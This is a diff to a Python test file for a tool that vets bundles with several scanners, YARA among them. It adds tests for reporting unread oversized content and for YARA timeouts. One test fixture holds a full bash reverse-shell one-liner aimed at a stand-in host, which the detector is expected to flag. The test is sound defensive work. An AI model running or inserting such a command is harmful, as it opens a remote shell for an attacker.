@@ -1,12 +1,13 @@
 """All tools together: one answer a tool for each bundle, in order, whatever breaks."""
 
+import yara_x
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from vetting import scanners
 from vetting.bundle import Bundle, BundleFile
-from vetting.scanners import SCANNERS, scan, yara
-from vetting.scanners.pieces import fences_in, pieces_of
+from vetting.scanners import SCANNERS, Source, scan, yara
+from vetting.scanners.pieces import fences_in, pieces_of, unread
 
 NAMES = [tool.NAME for tool in SCANNERS]
 
@@ -72,3 +73,27 @@ def test_no_bundle_breaks_a_tool(contents):
     assert {result.state for result in row} <= {"ok", "nothing-to-scan"}, [result.reason for result in row]
     assert all(finding.line >= 0 for result in row for finding in result.findings)
     pieces_of(made)
+
+
+def test_what_is_beyond_the_bounds_is_told_as_unread(bundle):
+    many = "```sh\nls\n```\n" * 700
+    large = bundle({"README.md": many, "big.py": "#" * 600_000, "last.sh": "ls\n"})
+    pieces = pieces_of(large)
+    assert len(pieces) == 600
+    assert unread(large, pieces) == ["big.py", "everything from README.md on"]
+    assert unread(bundle({"a.py": "x = 1\n"}), []) == []
+
+
+def test_a_file_that_holds_yara_up_is_no_pass_and_the_rest_is_still_found(bundle, monkeypatch):
+    class Slow:
+        def scan(self, data):
+            if data == b"slow":
+                raise yara_x.TimeoutError
+            return real.scan(data)
+
+    real = yara._scanner()
+    monkeypatch.setattr(yara, "_scanner", Slow)
+    made = bundle({"a.bin": "slow", "b.sh": "bash -i >& /dev/tcp/c2.example.com/4444 0>&1"})
+    (result,) = yara.scan([Source(made, [])])
+    assert result.state == "failed" and "a.bin" in result.reason
+    assert [finding.check for finding in result.findings] == ["yara:reverse_shell_dev_tcp", "yara:failed"]
